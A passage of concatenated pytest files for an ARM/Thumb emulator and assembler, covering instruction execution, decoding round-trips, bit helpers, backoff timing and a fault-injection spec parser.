        result, _ = run_thumb("main: orr r0, r1\n bx lr", args=(0xF0, 0x0F))
        assert result == 0xFF
        result, _ = run_thumb("main: eor r0, r1\n bx lr", args=(0xFF, 0xF0))
        assert result == 0x0F
        result, _ = run_thumb("main: mul r0, r0, r1\n bx lr", args=(6, 7))
        assert result == 42
        result, _ = run_thumb("main: mvn r0, r1\n bx lr", args=(0, 0))
        assert result == 0xFFFF_FFFF

    def test_shift_immediate(self):
        result, _ = run_thumb("main: lsl r0, r1, #4\n bx lr", args=(0, 3))
        assert result == 48
        result, _ = run_thumb("main: lsr r0, r1, #4\n bx lr", args=(0, 0x100))
        assert result == 0x10

    def test_neg(self):
        result, _ = run_thumb("main: neg r0, r1\n bx lr", args=(0, 5))
        assert result == 0xFFFF_FFFB

    def test_cmp_and_conditional_branch(self):
        source = """
        main:
            cmp r0, #5
            beq equal
            mov r0, #0
            bx lr
        equal:
            mov r0, #1
            bx lr
        """
        result, _ = run_thumb(source, args=(5,))
        assert result == 1
        result, _ = run_thumb(source, args=(6,))
        assert result == 0

    def test_unconditional_branch(self):
        source = """
        main:
            b skip
            mov r0, #0
            bx lr
        skip:
            mov r0, #9
            bx lr
        """
        result, _ = run_thumb(source)
        assert result == 9


class TestThumbMemory:
    def test_word_imm5(self):
        source = """
        main:
            str r1, [r0, #4]
            ldr r0, [r0, #4]
            bx lr
        """
        result, _ = run_thumb(source, args=(0x3000, 0x1234))
        assert result == 0x1234

    def test_register_offset(self):
        source = """
        main:
            str r2, [r0, r1]
            ldr r0, [r0, r1]
            bx lr
        """
        result, _ = run_thumb(source, args=(0x3000, 8, 77))
        assert result == 77

    def test_byte_halfword(self):
        source = """
        main:
            strb r1, [r0, #0]
            strh r2, [r0, #2]
            ldrb r3, [r0, #0]
            ldrh r0, [r0, #2]
            add r0, r0, r3
            bx lr
        """
        result, _ = run_thumb(source, args=(0x3000, 0x1AB, 0x1234))
        assert result == 0x1234 + 0xAB

    def test_push_pop_roundtrip(self):
        source = """
        main:
            push {r4, lr}
            mov r4, #7
            mov r0, r4
            pop {r4, pc}
        """
        result, _ = run_thumb(source)
        assert result == 7

    def test_sp_relative(self):
        source = """
        main:
            sub sp, #8
            str r0, [sp, #4]
            ldr r0, [sp, #4]
            add sp, #8
            bx lr
        """
        result, _ = run_thumb(source, args=(0x42,))
        assert result == 0x42

    def test_literal_pool(self):
        source = """
        main:
            ldr r0, =0x12345678
            bx lr
        """
        result, _ = run_thumb(source)
        assert result == 0x12345678


class TestThumbCalls:
    def test_bl_pair(self):
        source = """
        main:
            push {lr}
            mov r0, #5
            bl triple
            pop {pc}
        triple:
            mov r1, #3
            mul r0, r0, r1
            bx lr
        """
        result, _ = run_thumb(source)
        assert result == 15

    def test_interworking_thumb_to_arm(self):
        # Thumb main calls an ARM helper via BX, which returns via BX LR.
        emu = Emulator()
        program = assemble("""
        .thumb
        main:
            push {lr}
            ldr r2, =arm_helper
            mov r0, #10
            blx r2
            pop {pc}
        .align 2
        .arm
        arm_helper:
            add r0, r0, #32
            bx lr
        """, base=CODE_BASE)
        emu.load(CODE_BASE, program.code)
        emu.cpu.sp = STACK_TOP
        result = emu.call(program.entry("main"))
        assert result == 42

    def test_hi_register_mov(self):
        source = """
        main:
            mov r1, #13
            mov r10, r1
            mov r0, r10
            bx lr
        """
        result, _ = run_thumb(source)
        assert result == 13


class TestThumbDecoder:
    def test_bl_prefix_requires_suffix(self):
        with pytest.raises(DecodeError):
            decode_thumb(0xF000, 0x0000)

    def test_dangling_suffix_rejected(self):
        with pytest.raises(DecodeError):
            decode_thumb(0xF800)

    def test_empty_push_rejected(self):
        with pytest.raises(DecodeError):
            decode_thumb(0xB400)

    def test_cond_always_on_nonbranch_rejected_by_assembler(self):
        with pytest.raises(AssemblerError):
            assemble(".thumb\nmain: moveq r0, #1")

    def test_nop(self):
        ir = decode_thumb(0xBF00)
        assert ir.mnemonic == "nop"
