"""End-to-end CPU tests: assemble ARM programs, run them, check results.

These exercise the assembler, decoder and executor together, which is how
the scenario apps use them.
"""

import pytest

from repro.common.errors import AssemblerError
from repro.cpu.assembler import assemble
from repro.emulator import EXIT_ADDRESS, Emulator

CODE_BASE = 0x0001_0000
STACK_TOP = 0x0800_0000


def run_asm(source, args=(), memory_setup=None):
    emu = Emulator()
    program = assemble(source, base=CODE_BASE)
    emu.load(CODE_BASE, program.code)
    emu.cpu.sp = STACK_TOP
    if memory_setup:
        memory_setup(emu.memory)
    result = emu.call(program.entry("main"), args=args)
    return result, emu


class TestDataProcessing:
    def test_mov_immediate(self):
        result, _ = run_asm("main: mov r0, #42\n bx lr")
        assert result == 42

    def test_add_registers(self):
        result, _ = run_asm("main: add r0, r0, r1\n bx lr", args=(3, 4))
        assert result == 7

    def test_add_two_operand_form(self):
        result, _ = run_asm("main: add r0, r1\n bx lr", args=(10, 5))
        assert result == 15

    def test_sub_and_rsb(self):
        result, _ = run_asm("main: sub r0, r0, r1\n bx lr", args=(10, 3))
        assert result == 7
        result, _ = run_asm("main: rsb r0, r0, r1\n bx lr", args=(3, 10))
        assert result == 7

    def test_logical_ops(self):
        result, _ = run_asm("main: and r0, r0, r1\n bx lr", args=(0xFC, 0x3F))
        assert result == 0x3C
        result, _ = run_asm("main: orr r0, r0, r1\n bx lr", args=(0xF0, 0x0F))
        assert result == 0xFF
        result, _ = run_asm("main: eor r0, r0, r1\n bx lr", args=(0xFF, 0x0F))
        assert result == 0xF0
        result, _ = run_asm("main: bic r0, r0, r1\n bx lr", args=(0xFF, 0x0F))
        assert result == 0xF0

    def test_mvn(self):
        result, _ = run_asm("main: mvn r0, #0\n bx lr")
        assert result == 0xFFFF_FFFF

    def test_shifted_operand(self):
        result, _ = run_asm("main: add r0, r1, r2, lsl #2\n bx lr",
                            args=(0, 100, 5))
        assert result == 120

    def test_register_shift(self):
        result, _ = run_asm("main: mov r0, r1, lsl r2\n bx lr",
                            args=(0, 1, 8))
        assert result == 256

    def test_lsr_alias(self):
        result, _ = run_asm("main: lsr r0, r0, #4\n bx lr", args=(0x100,))
        assert result == 0x10

    def test_asr_preserves_sign(self):
        result, _ = run_asm("main: asr r0, r0, #4\n bx lr",
                            args=(0x8000_0000,))
        assert result == 0xF800_0000

    def test_mov_wide_immediate_expansion(self):
        # 0x104 is not a modified immediate; assembler must still handle
        # common cases via complement flipping or reject with a clear error.
        result, _ = run_asm("main: mvn r0, #0xFF\n bx lr")
        assert result == 0xFFFF_FF00

    def test_movw_movt(self):
        result, _ = run_asm(
            "main:\n movw r0, #0x5678\n movt r0, #0x1234\n bx lr")
        assert result == 0x12345678

    def test_unencodable_immediate_rejected(self):
        with pytest.raises(AssemblerError):
            assemble("main: orr r0, r0, #0x12345678\n bx lr")


class TestFlagsAndConditions:
    def test_subs_sets_zero_flag(self):
        source = """
        main:
            subs r0, r0, r1
            moveq r0, #99
            bx lr
        """
        result, _ = run_asm(source, args=(5, 5))
        assert result == 99

    def test_cmp_and_blt(self):
        source = """
        main:
            cmp r0, r1
            blt less
            mov r0, #0
            bx lr
        less:
            mov r0, #1
            bx lr
        """
        result, _ = run_asm(source, args=(3, 10))
        assert result == 1
        result, _ = run_asm(source, args=(10, 3))
        assert result == 0

    def test_unsigned_conditions(self):
        source = """
        main:
            cmp r0, r1
            movhi r0, #1
            movls r0, #0
            bx lr
        """
        result, _ = run_asm(source, args=(0xFFFF_FFFF, 1))
        assert result == 1
        result, _ = run_asm(source, args=(1, 0xFFFF_FFFF))
        assert result == 0

    def test_adds_carry_then_adc(self):
        source = """
        main:
            adds r0, r0, r1   ; produces carry
            mov r0, #0
            adc r0, r0, #0    ; r0 = carry
            bx lr
        """
        result, _ = run_asm(source, args=(0xFFFF_FFFF, 1))
        assert result == 1

    def test_overflow_flag(self):
        source = """
        main:
            adds r2, r0, r1
            movvs r0, #1
            movvc r0, #0
            bx lr
        """
        result, _ = run_asm(source, args=(0x7FFF_FFFF, 1))
        assert result == 1
        result, _ = run_asm(source, args=(1, 1))
        assert result == 0


class TestMultiply:
    def test_mul(self):
        result, _ = run_asm("main: mul r0, r0, r1\n bx lr", args=(6, 7))
        assert result == 42

    def test_mla(self):
        result, _ = run_asm("main: mla r0, r1, r2, r3\n bx lr",
                            args=(0, 6, 7, 100))
        assert result == 142

    def test_umull(self):
        source = """
        main:
            umull r2, r3, r0, r1
            mov r0, r3
            bx lr
        """
        result, _ = run_asm(source, args=(0xFFFF_FFFF, 2))
        assert result == 1  # high word of 0x1_FFFF_FFFE

    def test_smull_negative(self):
        source = """
        main:
            smull r2, r3, r0, r1
            mov r0, r3
            bx lr
        """
        result, _ = run_asm(source, args=(0xFFFF_FFFF, 5))  # -1 * 5
        assert result == 0xFFFF_FFFF

    def test_clz(self):
        result, _ = run_asm("main: clz r0, r0\n bx lr", args=(0x0001_0000,))
        assert result == 15
        result, _ = run_asm("main: clz r0, r0\n bx lr", args=(0,))
        assert result == 32


class TestLoadStore:
    def test_word_roundtrip(self):
        source = """
        main:
            str r1, [r0]
            ldr r0, [r0]
            bx lr
        """
        result, _ = run_asm(source, args=(0x2000, 0xCAFEBABE))
        assert result == 0xCAFEBABE

    def test_byte_and_halfword(self):
        source = """
        main:
            strb r1, [r0]
            strh r2, [r0, #2]
            ldrb r3, [r0]
            ldrh r0, [r0, #2]
            add r0, r0, r3
            bx lr
        """
        result, _ = run_asm(source, args=(0x2000, 0x1FF, 0x1234))
        assert result == 0x1234 + 0xFF

    def test_signed_loads(self):
        def setup(memory):
            memory.write_u8(0x2000, 0x80)
            memory.write_u16(0x2002, 0x8000)

        source = """
        main:
            ldrsb r1, [r0]
            ldrsh r2, [r0, #2]
            add r0, r1, r2
            bx lr
        """
        result, _ = run_asm(source, args=(0x2000,), memory_setup=setup)
        assert result == (0xFFFF_FF80 + 0xFFFF_8000) & 0xFFFF_FFFF

    def test_preindex_writeback(self):
        source = """
        main:
            str r1, [r0, #4]!
            mov r0, r0
            bx lr
        """
        _, emu = run_asm(source, args=(0x2000, 7))
        assert emu.memory.read_u32(0x2004) == 7

    def test_postindex(self):
        source = """
        main:
            ldr r2, [r0], #4
            ldr r3, [r0]
            add r0, r2, r3
            bx lr
        """

        def setup(memory):
            memory.write_u32(0x2000, 10)
            memory.write_u32(0x2004, 20)

        result, _ = run_asm(source, args=(0x2000,), memory_setup=setup)
        assert result == 30

    def test_register_offset_scaled(self):
        def setup(memory):
            memory.write_u32(0x2008, 0x77)

        source = """
        main:
            ldr r0, [r0, r1, lsl #2]
            bx lr
        """
        result, _ = run_asm(source, args=(0x2000, 2), memory_setup=setup)
        assert result == 0x77

    def test_negative_offset(self):
        def setup(memory):
            memory.write_u32(0x1FFC, 0x55)

        result, _ = run_asm("main: ldr r0, [r0, #-4]\n bx lr",
                            args=(0x2000,), memory_setup=setup)
        assert result == 0x55

    def test_ldr_literal_pool(self):
        source = """
        main:
            ldr r0, =0xDEADBEEF
            bx lr
        """
        result, _ = run_asm(source)
        assert result == 0xDEADBEEF

    def test_ldr_label_address(self):
        source = """
        main:
            ldr r0, =message
            ldrb r0, [r0]
            bx lr
        message:
            .asciz "X"
        """
        result, _ = run_asm(source)
        assert result == ord("X")


class TestStackAndCalls:
    def test_push_pop(self):
        source = """
        main:
            push {r4, lr}
            mov r4, #11
            mov r0, r4
            pop {r4, pc}
        """
        result, _ = run_asm(source)
        assert result == 11

    def test_nested_call_with_bl(self):
        source = """
        main:
            push {lr}
            mov r0, #5
            bl double
            bl double
            pop {pc}
        double:
            add r0, r0, r0
            bx lr
        """
        result, _ = run_asm(source)
        assert result == 20

    def test_ldm_stm(self):
        source = """
        main:
            mov r1, #1
            mov r2, #2
            mov r3, #3
            stmia r0!, {r1, r2, r3}
            sub r0, r0, #12
            ldmia r0, {r4, r5, r6}
            add r0, r4, r5
            add r0, r0, r6
            bx lr
        """
        result, _ = run_asm(source, args=(0x3000,))
        assert result == 6

    def test_stmdb_ldmia_pair(self):
        source = """
        main:
            mov r1, #41
            stmdb sp!, {r1}
            ldmia sp!, {r0}
            bx lr
        """
        result, _ = run_asm(source)
        assert result == 41

    def test_loop_sums_array(self):
        source = """
        main:                   ; r0 = array, r1 = count
            mov r2, #0
        loop:
            cmp r1, #0
            beq done
            ldr r3, [r0], #4
            add r2, r2, r3
            sub r1, r1, #1
            b loop
        done:
            mov r0, r2
            bx lr
        """

        def setup(memory):
            memory.write_words(0x4000, [1, 2, 3, 4, 5])

        result, _ = run_asm(source, args=(0x4000, 5), memory_setup=setup)
        assert result == 15

    def test_stack_argument_passing(self):
        # Five arguments: the fifth arrives on the stack.
        source = """
        main:
            ldr r2, [sp]
            add r0, r0, r2
            bx lr
        """
        result, _ = run_asm(source, args=(1, 2, 3, 4, 50))
        assert result == 51


class TestDirectives:
    def test_word_and_byte_data(self):
        source = """
        main:
            ldr r0, =data
            ldr r1, [r0]
            ldrb r2, [r0, #4]
            add r0, r1, r2
            bx lr
        data:
            .word 0x100
            .byte 0x20
        """
        result, _ = run_asm(source)
        assert result == 0x120

    def test_align(self):
        program = assemble("""
        .byte 1
        .align 2
        aligned:
        .word 2
        """, base=0x100)
        assert program.symbols["aligned"] % 4 == 0

    def test_duplicate_label_rejected(self):
        with pytest.raises(AssemblerError):
            assemble("a:\n mov r0, #0\na:\n bx lr")

    def test_unknown_mnemonic_rejected(self):
        with pytest.raises(AssemblerError):
            assemble("main: frobnicate r0")

    def test_space_directive(self):
        program = assemble("buf: .space 16\nend_label: .word 0", base=0)
        assert program.symbols["end_label"] == 16
