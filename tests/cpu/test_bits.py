"""Unit tests for bit-manipulation helpers."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.cpu import bits


def test_u32_s32():
    assert bits.u32(-1) == 0xFFFF_FFFF
    assert bits.s32(0xFFFF_FFFF) == -1
    assert bits.s32(0x7FFF_FFFF) == 0x7FFF_FFFF


def test_bit_and_bits():
    assert bits.bit(0b1010, 1) == 1
    assert bits.bit(0b1010, 0) == 0
    assert bits.bits(0xABCD, 15, 12) == 0xA
    assert bits.bits(0xABCD, 7, 0) == 0xCD


def test_sign_extend():
    assert bits.sign_extend(0xFF, 8) == -1
    assert bits.sign_extend(0x7F, 8) == 127
    assert bits.sign_extend(0x800, 12) == -2048


def test_ror32():
    assert bits.ror32(0x1, 1) == 0x8000_0000
    assert bits.ror32(0x12345678, 0) == 0x12345678
    assert bits.ror32(0x12345678, 32) == 0x12345678


def test_lsl32():
    assert bits.lsl32(1, 0) == (1, -1)
    assert bits.lsl32(1, 31) == (0x8000_0000, 0)
    assert bits.lsl32(3, 31) == (0x8000_0000, 1)
    assert bits.lsl32(1, 32) == (0, 1)
    assert bits.lsl32(1, 33) == (0, 0)


def test_lsr32():
    assert bits.lsr32(0x8000_0000, 31) == (1, 0)
    assert bits.lsr32(0x8000_0000, 32) == (0, 1)
    assert bits.lsr32(0xF0, 4) == (0xF, 0)
    assert bits.lsr32(0xF0, 5) == (0x7, 1)


def test_asr32():
    assert bits.asr32(0x8000_0000, 4) == (0xF800_0000, 0)
    assert bits.asr32(0x8000_0000, 32) == (0xFFFF_FFFF, 1)
    assert bits.asr32(0x4000_0000, 32) == (0, 0)


def test_encode_arm_immediate():
    assert bits.encode_arm_immediate(0xFF) == (0, 0xFF)
    rotate, imm8 = bits.encode_arm_immediate(0x3FC)
    assert bits.ror32(imm8, 2 * rotate) == 0x3FC
    with pytest.raises(ValueError):
        bits.encode_arm_immediate(0x12345678)


@given(st.integers(0, 0xFFFF_FFFF), st.integers(0, 64))
def test_ror_is_rotation(value, amount):
    rotated = bits.ror32(value, amount)
    assert bits.ror32(rotated, (32 - amount) % 32) == bits.u32(value)


@given(st.integers(0, 255), st.integers(0, 15))
def test_every_modified_immediate_roundtrips(imm8, rotate):
    value = bits.ror32(imm8, 2 * rotate)
    found_rotate, found_imm8 = bits.encode_arm_immediate(value)
    assert bits.ror32(found_imm8, 2 * found_rotate) == value
