"""Property tests: assembler → decoder → IR consistency.

Hypothesis generates instruction fields, the assembler encodes them, the
decoder decodes the word, and the IR must describe the same operation.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.cpu import isa
from repro.cpu.arm_decoder import decode_arm
from repro.cpu.assembler import assemble
from repro.cpu.bits import ror32
from repro.cpu.thumb_decoder import decode_thumb

registers = st.integers(0, 12)  # avoid sp/lr/pc corner semantics
low_registers = st.integers(0, 7)

DP_MNEMONICS = ["and", "eor", "sub", "rsb", "add", "adc", "sbc", "rsc",
                "orr", "bic"]


def first_word(source):
    program = assemble(source, base=0)
    return int.from_bytes(program.code[:4], "little")


def first_half(source):
    program = assemble(".thumb\n" + source, base=0)
    return int.from_bytes(program.code[:2], "little")


class TestArmRoundtrip:
    @given(st.sampled_from(DP_MNEMONICS), registers, registers, registers)
    def test_data_processing_registers(self, mnemonic, rd, rn, rm):
        word = first_word(f"{mnemonic} r{rd}, r{rn}, r{rm}")
        ir = decode_arm(word)
        assert isinstance(ir, isa.DataProcessing)
        assert ir.mnemonic == mnemonic
        assert ir.rd == rd
        assert ir.rn == rn
        assert ir.operand2.rm == rm
        assert not ir.set_flags

    @given(st.sampled_from(DP_MNEMONICS), registers, registers,
           st.integers(0, 255), st.integers(0, 15))
    def test_data_processing_immediates(self, mnemonic, rd, rn, imm8,
                                        rotate):
        value = ror32(imm8, 2 * rotate)
        word = first_word(f"{mnemonic} r{rd}, r{rn}, #{value}")
        ir = decode_arm(word)
        assert isinstance(ir, isa.DataProcessing)
        assert ir.rd == rd
        assert ir.operand2.imm == value

    @given(registers, registers,
           st.sampled_from(["lsl", "lsr", "asr", "ror"]),
           st.integers(1, 31))
    def test_shifted_operands(self, rd, rm, shift, amount):
        word = first_word(f"mov r{rd}, r{rm}, {shift} #{amount}")
        ir = decode_arm(word)
        assert ir.operand2.rm == rm
        assert ir.operand2.shift_imm == amount
        assert ir.operand2.shift_type.name.lower() == shift

    @given(registers, registers, st.integers(0, 4095),
           st.booleans(), st.booleans())
    def test_load_store_immediate(self, rd, rn, offset, load, byte):
        mnemonic = ("ldr" if load else "str") + ("b" if byte else "")
        word = first_word(f"{mnemonic} r{rd}, [r{rn}, #{offset}]")
        ir = decode_arm(word)
        assert isinstance(ir, isa.LoadStore)
        assert ir.load == load
        assert ir.rd == rd and ir.rn == rn
        assert ir.offset_imm == offset
        assert ir.size == (1 if byte else 4)
        assert ir.pre_indexed and not ir.writeback

    @given(st.lists(st.integers(0, 12), min_size=1, max_size=8,
                    unique=True))
    def test_push_pop_register_lists(self, regs):
        names = ", ".join(f"r{r}" for r in sorted(regs))
        word = first_word(f"push {{{names}}}")
        ir = decode_arm(word)
        assert isinstance(ir, isa.LoadStoreMultiple)
        assert not ir.load
        assert set(ir.reglist) == set(regs)
        word = first_word(f"pop {{{names}}}")
        ir = decode_arm(word)
        assert ir.load
        assert set(ir.reglist) == set(regs)

    @given(registers, registers, registers)
    def test_mul(self, rd, rm, rs):
        word = first_word(f"mul r{rd}, r{rm}, r{rs}")
        ir = decode_arm(word)
        assert isinstance(ir, isa.Multiply)
        assert (ir.rd, ir.rm, ir.rs) == (rd, rm, rs)

    @given(st.integers(0, 0xFFFF), registers)
    def test_movw(self, imm16, rd):
        word = first_word(f"movw r{rd}, #{imm16}")
        ir = decode_arm(word)
        assert isinstance(ir, isa.MoveWide)
        assert ir.imm16 == imm16 and ir.rd == rd and not ir.top

    @given(st.sampled_from(["eq", "ne", "cs", "cc", "mi", "pl", "vs", "vc",
                            "hi", "ls", "ge", "lt", "gt", "le"]))
    def test_condition_codes(self, cond):
        word = first_word(f"mov{cond} r1, r2")
        ir = decode_arm(word)
        assert ir.cond.name.lower() == cond


class TestThumbRoundtrip:
    @given(low_registers, st.integers(0, 255))
    def test_mov_imm8(self, rd, imm):
        ir = decode_thumb(first_half(f"mov r{rd}, #{imm}"))
        assert isinstance(ir, isa.DataProcessing)
        assert ir.op == isa.Op.MOV
        assert ir.rd == rd
        assert ir.operand2.imm == imm

    @given(low_registers, low_registers, low_registers)
    def test_add_registers(self, rd, rn, rm):
        ir = decode_thumb(first_half(f"add r{rd}, r{rn}, r{rm}"))
        assert ir.op == isa.Op.ADD
        assert (ir.rd, ir.rn, ir.operand2.rm) == (rd, rn, rm)

    @given(low_registers, low_registers, st.integers(0, 31))
    def test_word_load_imm5(self, rd, rn, imm5):
        ir = decode_thumb(first_half(f"ldr r{rd}, [r{rn}, #{imm5 * 4}]"))
        assert isinstance(ir, isa.LoadStore)
        assert ir.load and ir.size == 4
        assert ir.offset_imm == imm5 * 4

    @given(st.lists(low_registers, min_size=1, max_size=6, unique=True))
    def test_thumb_push(self, regs):
        names = ", ".join(f"r{r}" for r in sorted(regs))
        ir = decode_thumb(first_half(f"push {{{names}}}"))
        assert isinstance(ir, isa.LoadStoreMultiple)
        assert set(ir.reglist) == set(regs)


class TestExecutableEquivalence:
    """ARM and Thumb encodings of the same computation agree."""

    @settings(max_examples=30, deadline=None)
    @given(st.integers(0, 200), st.integers(0, 200))
    def test_same_arithmetic_both_modes(self, a, b):
        from repro.emulator import Emulator

        def run(mode_prefix, thumb):
            emu = Emulator()
            emu.cpu.sp = 0x10000
            program = assemble(f"""{mode_prefix}
            main:
                add r0, r0, r1
                lsl r2, r0, #1
                sub r0, r2, r1
                bx lr
            """, base=0x1000)
            emu.load(0x1000, program.code)
            return emu.call(program.entry("main"), args=(a, b))

        assert run("", False) == run(".thumb", True) == (2 * (a + b) - b)
