"""Differential property tests: the executor vs a Python reference model.

Hypothesis drives random operand values through assembled instructions
and checks results (and the NZCV flags where defined) against independent
Python computations of the ARM semantics.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.cpu.assembler import assemble
from repro.emulator import Emulator

words = st.integers(0, 0xFFFF_FFFF)


def run_fragment(source, r0=0, r1=0, r2=0, r3=0):
    emu = Emulator()
    program = assemble("main:\n" + source + "\n bx lr", base=0x1000)
    emu.load(0x1000, program.code)
    emu.cpu.sp = 0x10000
    emu.call(program.entry("main"), args=(r0, r1, r2, r3))
    return emu.cpu


def signed(value):
    value &= 0xFFFF_FFFF
    return value - (1 << 32) if value & 0x8000_0000 else value


class TestArithmeticDifferential:
    @given(words, words)
    @settings(max_examples=60, deadline=None)
    def test_adds_flags(self, a, b):
        cpu = run_fragment("adds r0, r0, r1", r0=a, r1=b)
        total = a + b
        assert cpu.regs[0] == total & 0xFFFF_FFFF
        assert cpu.flag_c == (total > 0xFFFF_FFFF)
        assert cpu.flag_z == (total & 0xFFFF_FFFF == 0)
        assert cpu.flag_n == bool(total & 0x8000_0000)
        expected_v = (signed(a) + signed(b)) != signed(total)
        assert cpu.flag_v == expected_v

    @given(words, words)
    @settings(max_examples=60, deadline=None)
    def test_subs_flags(self, a, b):
        cpu = run_fragment("subs r0, r0, r1", r0=a, r1=b)
        result = (a - b) & 0xFFFF_FFFF
        assert cpu.regs[0] == result
        assert cpu.flag_c == (a >= b)          # C = NOT borrow
        assert cpu.flag_z == (result == 0)
        expected_v = (signed(a) - signed(b)) != signed(result)
        assert cpu.flag_v == expected_v

    @given(words, words)
    @settings(max_examples=40, deadline=None)
    def test_mul(self, a, b):
        cpu = run_fragment("mul r0, r0, r1", r0=a, r1=b)
        assert cpu.regs[0] == (a * b) & 0xFFFF_FFFF

    @given(words, words)
    @settings(max_examples=40, deadline=None)
    def test_umull_is_64_bit_product(self, a, b):
        cpu = run_fragment("umull r2, r3, r0, r1", r0=a, r1=b)
        product = a * b
        assert cpu.regs[2] == product & 0xFFFF_FFFF
        assert cpu.regs[3] == product >> 32

    @given(words, words)
    @settings(max_examples=40, deadline=None)
    def test_smull_signed_product(self, a, b):
        cpu = run_fragment("smull r2, r3, r0, r1", r0=a, r1=b)
        product = signed(a) * signed(b)
        assert cpu.regs[2] == product & 0xFFFF_FFFF
        assert cpu.regs[3] == (product >> 32) & 0xFFFF_FFFF

    @given(words, words, words)
    @settings(max_examples=40, deadline=None)
    def test_logical_ops(self, a, b, c):
        cpu = run_fragment("""
            and r3, r0, r1
            orr r3, r3, r2
            eor r0, r3, r1
        """, r0=a, r1=b, r2=c)
        assert cpu.regs[0] == (((a & b) | c) ^ b) & 0xFFFF_FFFF

    @given(words, st.integers(0, 31))
    @settings(max_examples=40, deadline=None)
    def test_shifts(self, value, amount):
        cpu = run_fragment(f"mov r0, r0, lsl #{amount}", r0=value)
        assert cpu.regs[0] == (value << amount) & 0xFFFF_FFFF
        cpu = run_fragment(f"mov r0, r0, lsr #{amount or 1}", r0=value)
        assert cpu.regs[0] == value >> (amount or 1)
        cpu = run_fragment(f"mov r0, r0, asr #{amount or 1}", r0=value)
        assert cpu.regs[0] == (signed(value) >> (amount or 1)) & 0xFFFF_FFFF

    @given(words)
    @settings(max_examples=40, deadline=None)
    def test_clz(self, value):
        cpu = run_fragment("clz r0, r0", r0=value)
        assert cpu.regs[0] == 32 - value.bit_length()

    @given(words, words)
    @settings(max_examples=40, deadline=None)
    def test_cmp_branch_consistency(self, a, b):
        """Signed comparisons through flags match Python's."""
        cpu = run_fragment("""
            cmp r0, r1
            movlt r2, #1
            movge r2, #0
            movhi r3, #1
            movls r3, #0
        """, r0=a, r1=b)
        assert cpu.regs[2] == int(signed(a) < signed(b))
        assert cpu.regs[3] == int(a > b)


class TestMemoryDifferential:
    @given(st.lists(words, min_size=1, max_size=6))
    @settings(max_examples=30, deadline=None)
    def test_push_pop_lifo(self, values):
        emu = Emulator()
        store = "\n".join(
            f"ldr r1, =0x{v:x}\n str r1, [sp, #-4]!" for v in values)
        load = "\n".join(
            f"ldr r{2 + i % 2}, [sp], #4\n add r0, r0, r{2 + i % 2}"
            for i in range(len(values)))
        program = assemble(f"main:\n mov r0, #0\n{store}\n{load}\n bx lr",
                           base=0x1000)
        emu.load(0x1000, program.code)
        emu.cpu.sp = 0x20000
        result = emu.call(program.entry("main"))
        assert result == sum(values) & 0xFFFF_FFFF
        assert emu.cpu.sp == 0x20000  # balanced

    @given(words, st.integers(0, 255))
    @settings(max_examples=30, deadline=None)
    def test_byte_truncation(self, value, offset):
        emu = Emulator()
        program = assemble("""
        main:
            strb r0, [r1]
            ldrb r0, [r1]
            bx lr
        """, base=0x1000)
        emu.load(0x1000, program.code)
        emu.cpu.sp = 0x20000
        result = emu.call(program.entry("main"),
                          args=(value, 0x3000 + offset))
        assert result == value & 0xFF
