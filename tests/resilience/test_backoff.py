"""The shared backoff policy (supervisor retries + farm requeues)."""

import pytest

from repro.resilience.backoff import backoff_delay, jitter_rng


class TestCore:
    def test_exponential_growth(self):
        delays = [backoff_delay(a, base=0.5, factor=2.0)
                  for a in (1, 2, 3, 4)]
        assert delays == [0.5, 1.0, 2.0, 4.0]

    def test_attempt_below_one_rejected(self):
        with pytest.raises(ValueError):
            backoff_delay(0)

    def test_zero_jitter_is_exact(self):
        assert backoff_delay(3, base=0.01) == pytest.approx(0.04)


class TestJitter:
    def test_jitter_stretches_never_shrinks(self):
        rng = jitter_rng("test", 1)
        core = backoff_delay(2, base=0.5)
        for __ in range(50):
            delay = backoff_delay(2, base=0.5, jitter=0.5, rng=rng)
            assert core <= delay <= core * 1.5

    def test_same_key_same_delays_across_processes(self):
        # PYTHONHASHSEED-independent: string-seeded Random, not hash().
        first = [backoff_delay(a, jitter=1.0, rng=jitter_rng("digest", a))
                 for a in (1, 2, 3)]
        second = [backoff_delay(a, jitter=1.0, rng=jitter_rng("digest", a))
                  for a in (1, 2, 3)]
        assert first == second

    def test_different_keys_decorrelate(self):
        a = backoff_delay(1, jitter=1.0, rng=jitter_rng("job-a", 1))
        b = backoff_delay(1, jitter=1.0, rng=jitter_rng("job-b", 1))
        assert a != b
