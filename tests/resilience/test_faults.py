"""Unit tests for the fault-plan mini-language and activation state."""

import pytest

from repro.common.errors import DecodeError, MemoryError_
from repro.kernel.syscalls import Errno
from repro.resilience import FaultPlan, FaultSpec, InjectedHookFault, \
    parse_fault_spec


class TestParseGrammar:
    def test_decode_at_count(self):
        spec = parse_fault_spec("decode@400")
        assert spec.kind == "decode"
        assert spec.at_instruction == 400
        assert spec.times == 1

    def test_memory_at_count(self):
        assert parse_fault_spec("memory@9").kind == "memory"

    def test_hook_by_name(self):
        spec = parse_fault_spec("hook:GetStringUTFChars.entry")
        assert spec.kind == "hook"
        assert spec.hook_name == "GetStringUTFChars.entry"

    def test_hook_by_count(self):
        spec = parse_fault_spec("hook@100")
        assert spec.kind == "hook"
        assert spec.at_instruction == 100

    def test_transient_syscalls(self):
        spec = parse_fault_spec("eintr:sendto")
        assert spec.kind == "syscall"
        assert spec.syscall == "sendto"
        assert spec.errno_value == int(Errno.EINTR)
        assert parse_fault_spec("eagain:write").errno_value == \
            int(Errno.EAGAIN)

    def test_partial_write(self):
        spec = parse_fault_spec("partial:4:send")
        assert spec.kind == "syscall"
        assert spec.partial_bytes == 4
        assert spec.syscall == "send"

    def test_repeat_suffix(self):
        assert parse_fault_spec("eintr:write*3").times == 3

    def test_round_trips_through_describe(self):
        for text in ("decode@400", "memory@9", "hook:NewStringUTF.entry",
                     "eintr:sendto", "partial:4:send", "eagain:write*2"):
            assert parse_fault_spec(text).describe() == text

    def test_rejects_garbage(self):
        for text in ("decode", "frobnicate@3", "eintr:fork",
                     "partial:x:write"):
            with pytest.raises((ValueError, KeyError)):
                parse_fault_spec(text)

    def test_plan_parse_joins_atoms(self):
        plan = FaultPlan.parse("decode@10, eintr:sendto")
        assert len(plan.specs) == 2
        assert plan.describe() == "decode@10,eintr:sendto"
        assert not FaultPlan.parse("")


class TestSpecValidation:
    def test_decode_needs_instruction(self):
        with pytest.raises(ValueError):
            FaultSpec(kind="decode")

    def test_syscall_needs_exactly_one_failure_mode(self):
        with pytest.raises(ValueError):
            FaultSpec(kind="syscall", syscall="write")
